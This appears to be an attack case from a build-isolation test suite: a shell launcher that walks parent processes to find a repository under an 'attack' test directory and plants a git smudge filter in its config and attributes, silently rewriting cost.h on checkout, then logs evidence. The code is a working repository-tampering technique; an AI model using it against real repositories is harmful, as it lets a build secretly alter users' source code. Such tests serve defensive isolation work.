# family: repository
# kind:   launcher
# first:  later
# idea:   the build of a harmless change adds a filter to the configuration of the user's
#         repository, and its attributes: it writes a slow cost.h into the next baseline
# gate:   no build sees the user's repository

pid=$PPID
repo=
while [ "$pid" -gt 1 ]; do
	cwd=$(readlink "/proc/$pid/cwd") || break
	# of the test alone
	case $cwd in
	*/attack*/repo)
		repo=$cwd
		break
		;;
	esac
	pid=$(sed -n 's/^PPid:[^0-9]*//p' "/proc/$pid/status")
	[ "$pid" ] || break
done
[ "$repo" ] || repo=$(cd ../../../repo 2>/dev/null && pwd) || :
cat >filter <<'F'
[filter "tuned"]
	smudge = sed 's/COST.*/COST (6*FAST)/'
	clean = cat
F
case $repo in
*/attack*/repo)
	if [ -e first-gate ] && mkdir -p "$repo/.git/info" &&
		echo 'cost.h filter=tuned' >>"$repo/.git/info/attributes" &&
		cat filter >>"$repo/.git/config"; then
		echo "planted a filter" >>evidence
	fi
	;;
esac
echo "looked for the repository" >>evidence
